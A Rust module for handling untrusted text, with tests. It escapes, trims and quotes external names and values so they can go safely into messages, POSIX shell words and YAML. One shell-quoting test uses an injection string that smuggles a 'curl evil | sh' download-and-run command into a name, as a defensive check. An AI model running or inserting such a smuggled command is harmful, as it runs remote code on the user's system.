//! Text from outside, on its way into a message. In: any text. Out: the same, escaped and cut, and quoted for where it stands. It knows
//! nothing of what the text is.

/// Text from outside: a name, a value, a path, what the host reported. It can't be printed as it came: every way out escapes
/// and cuts. Of a long text only both ends are kept, because names are not validated yet and can be a megabyte long, and a
/// message about each of thousands of entries would hold them.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Untrusted {
    /// The text, or its two ends.
    kept: Box<str>,
    /// Where the second end begins in `kept`, if the middle is missing.
    tail: Option<u16>,
}

/// Longest text that is kept whole, in bytes: more than any message shows of one.
const WHOLE_MAX: usize = 1_024;

/// Bytes that are kept of each end of a longer text.
const END: usize = 400;

impl<T: AsRef<str>> From<T> for Untrusted {
    fn from(text: T) -> Self {
        let text = text.as_ref();
        if text.len() <= WHOLE_MAX {
            return Self { kept: text.into(), tail: None };
        }
        let (head, tail) = (text.floor_char_boundary(END), text.ceil_char_boundary(text.len() - END));
        let ends = [text.get(..head), text.get(tail..)].map(Option::unwrap_or_default);
        Self { kept: ends.concat().into(), tail: u16::try_from(head).ok() }
    }
}

impl Untrusted {
    /// As it came, to be compared or asked for, never to be printed; of a text over 1,024 bytes, which no name is, its two ends.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.kept
    }

    /// Both ends of the text; the second one is empty where it is whole.
    fn ends(&self) -> (&str, &str) {
        self.tail.and_then(|tail| self.kept.split_at_checked(tail.into())).unwrap_or((&self.kept, ""))
    }

    /// Escaped and cut to `max` bytes.
    #[must_use]
    pub(crate) fn plain(&self, max: usize) -> String {
        self.shown(max, Around::Nothing)
    }

    /// In quotes, escaped, and cut to what a message can bear.
    #[must_use]
    pub(crate) fn quoted(&self) -> String {
        self.quoted_to(80)
    }

    /// In quotes, escaped, and cut to `max` bytes within them.
    #[must_use]
    pub(crate) fn quoted_to(&self, max: usize) -> String {
        format!("\"{}\"", self.shown(max, Around::Quotes))
    }

    fn shown(&self, max: usize, around: Around) -> String {
        match self.ends() {
            (whole, "") => shown(whole, max, around),
            (head, tail) => ends_shown(head, tail, max, around),
        }
    }

    /// A word of a command in a POSIX shell. What can't be the name of an object, because it is too long or can't be
    /// printed, is `placeholder`.
    #[must_use]
    pub(crate) fn shell_word(&self, placeholder: &str) -> String {
        let safe = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '/' | ':' | '@');
        if !self.is_name_like() || self.kept.starts_with('-') {
            placeholder.to_owned()
        } else if self.kept.chars().all(safe) {
            self.kept.to_string()
        } else {
            format!("'{}'", self.kept.replace('\'', r"'\''"))
        }
    }

    /// A YAML scalar in double quotes, or else `placeholder` in them.
    #[must_use]
    pub(crate) fn yaml(&self, placeholder: &str) -> String {
        let text = if self.is_name_like() { &self.kept } else { placeholder };
        format!("\"{}\"", text.replace('\\', r"\\").replace('"', "\\\""))
    }

    fn is_name_like(&self) -> bool {
        (1..=NAME_MAX).contains(&self.kept.len()) && self.kept.chars().all(is_visible)
    }
}

/// Longest name of an object (Kubernetes: an RFC 1123 subdomain).
pub(crate) const NAME_MAX: usize = 253;

/// Whether `c` is visible and unambiguous, or is a blank.
fn is_visible(c: char) -> bool {
    if c.is_ascii() {
        return !c.is_ascii_control();
    }
    // Letters without a glyph: Hangul fillers, and the blank of Braille.
    let blank = matches!(c, '\u{115f}' | '\u{1160}' | '\u{2800}' | '\u{3164}' | '\u{ffa0}');
    // What the standard library escapes: control, format and separator characters, combining marks, what is unassigned.
    !blank && c.escape_debug().len() == 1
}

/// What stands around a text.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Around {
    Nothing,
    Quotes,
}

/// Appends `c` as a message has it.
fn push(c: char, around: Around, out: &mut String) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '"' | '\\' if around == Around::Quotes => out.extend(['\\', c]),
        c if is_visible(c) => out.push(c),
        c => out.extend(c.escape_unicode()),
    }
}

/// As many characters as fit into `max` bytes once they are escaped.
fn fitting(chars: impl Iterator<Item = char>, max: usize, around: Around) -> (usize, String) {
    let (mut number, mut out) = (0, String::new());
    for c in chars {
        let before = out.len();
        push(c, around, &mut out);
        if out.len() > max {
            out.truncate(before);
            break;
        }
        number += 1;
    }
    (number, out)
}

/// `text` escaped, with its middle cut out where it comes out longer than `max` bytes.
fn shown(text: &str, max: usize, around: Around) -> String {
    let (number, whole) = fitting(text.chars(), max, around);
    if text.chars().nth(number).is_none() {
        return whole;
    }
    ends_shown(text, text, max, around)
}

/// The first characters of `head` and the last ones of `tail`, escaped, in `max` bytes.
fn ends_shown(head: &str, tail: &str, max: usize, around: Around) -> String {
    let room = max.saturating_sub('…'.len_utf8());
    let (_, mut out) = fitting(head.chars(), room / 2, around);
    let (number, _) = fitting(tail.chars().rev(), room - room / 2, around);
    out.push('…');
    let start = tail.char_indices().rev().take(number).last().map_or(tail.len(), |(start, _)| start);
    tail.get(start..).unwrap_or_default().chars().for_each(|c| push(c, around, &mut out));
    out
}

/// `text`, which is fit to be printed, with its middle cut out where it is longer than `max` bytes.
#[must_use]
pub(crate) fn cut_middle(text: &str, max: usize) -> String {
    shown(text, max, Around::Nothing)
}

/// The one of `known` that `name` was most likely meant to be.
#[must_use]
pub(crate) fn nearest<'k>(name: &str, known: impl Iterator<Item = &'k str>) -> Option<&'k str> {
    let name: String = name.chars().take(128).collect();
    known.min_by_key(|known| strsim::levenshtein(&name, known))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(text: &str) -> Untrusted {
        Untrusted::from(text)
    }

    #[test]
    fn quotes_escapes_and_cuts_what_was_found() {
        assert_eq!(text("${CLIENT_ID}").quoted(), r#""${CLIENT_ID}""#);
        assert_eq!(text("a\n\"b\"'\\").quoted(), r#""a\n\"b\"'\\""#);
        assert_eq!(text("abcdefghij").quoted_to(7), "\"ab…ij\"");
        assert_eq!(text("abcdefghij").quoted_to(10), "\"abcdefghij\"");
        assert_eq!(text("ä\u{1b}[31m").plain(80), "ä\\u{1b}[31m");
    }

    #[test]
    fn shows_what_can_not_be_seen() {
        for c in ["\u{200b}", "\u{feff}", "\u{a0}", "\u{202e}", "\u{2028}", "\u{7f}", "\u{3164}", "\u{301}"] {
            let escaped: String = c.chars().flat_map(char::escape_unicode).collect();
            assert_eq!(text(&format!("a{c}b")).quoted(), format!("\"a{escaped}b\""));
        }
        assert_eq!(text("Ünïcode – 漢字 🚀").quoted(), "\"Ünïcode – 漢字 🚀\"");
    }

    #[test]
    fn keeps_both_ends_of_a_text_that_is_too_long_to_be_kept() {
        let long = format!("a{}z", "é".repeat(100_000));
        assert_eq!((text(&long).plain(7), text(&long).kept.len() <= 2 * END), ("a…z".to_owned(), true));
        assert_eq!(text(&long).shell_word("NAME"), "NAME");
        for length in [WHOLE_MAX - 1, WHOLE_MAX, WHOLE_MAX + 1, WHOLE_MAX + 2] {
            let one = format!("{}x", "ab".repeat(length / 2));
            assert_eq!(text(&one).plain(240), shown(&one, 240, Around::Nothing), "{length}");
        }
    }

    #[test]
    fn never_cuts_an_escape_in_two() {
        let long = text(&"\u{202e}".repeat(100_000));
        assert_eq!(long.plain(43), format!("{}…{}", "\\u{202e}".repeat(2), "\\u{202e}".repeat(2)));
        assert!((0..200).all(|max| text(&"é\u{200b}x".repeat(100)).plain(max).len() <= max.max(3)));
    }

    #[test]
    fn quotes_a_word_for_the_shell() {
        assert_eq!(text("my-account.1").shell_word("NAME"), "my-account.1");
        assert_eq!(text("x; curl evil | sh #").shell_word("NAME"), "'x; curl evil | sh #'");
        assert_eq!(text("it's $HOME").shell_word("NAME"), r"'it'\''s $HOME'");
        assert_eq!(text("a b").shell_word("NAME"), "'a b'");
        for unfit in ["", "--all", "a\nb", "a\u{200b}", &"a".repeat(254)] {
            assert_eq!(text(unfit).shell_word("NAME"), "NAME");
        }
    }

    #[test]
    fn quotes_a_scalar_for_yaml() {
        assert_eq!(text("keep;a").yaml("CONTAINER"), "\"keep;a\"");
        assert_eq!(text("a\"\\").yaml("CONTAINER"), r#""a\"\\""#);
        assert_eq!(text("a\nb").yaml("CONTAINER"), "\"CONTAINER\"");
    }
}
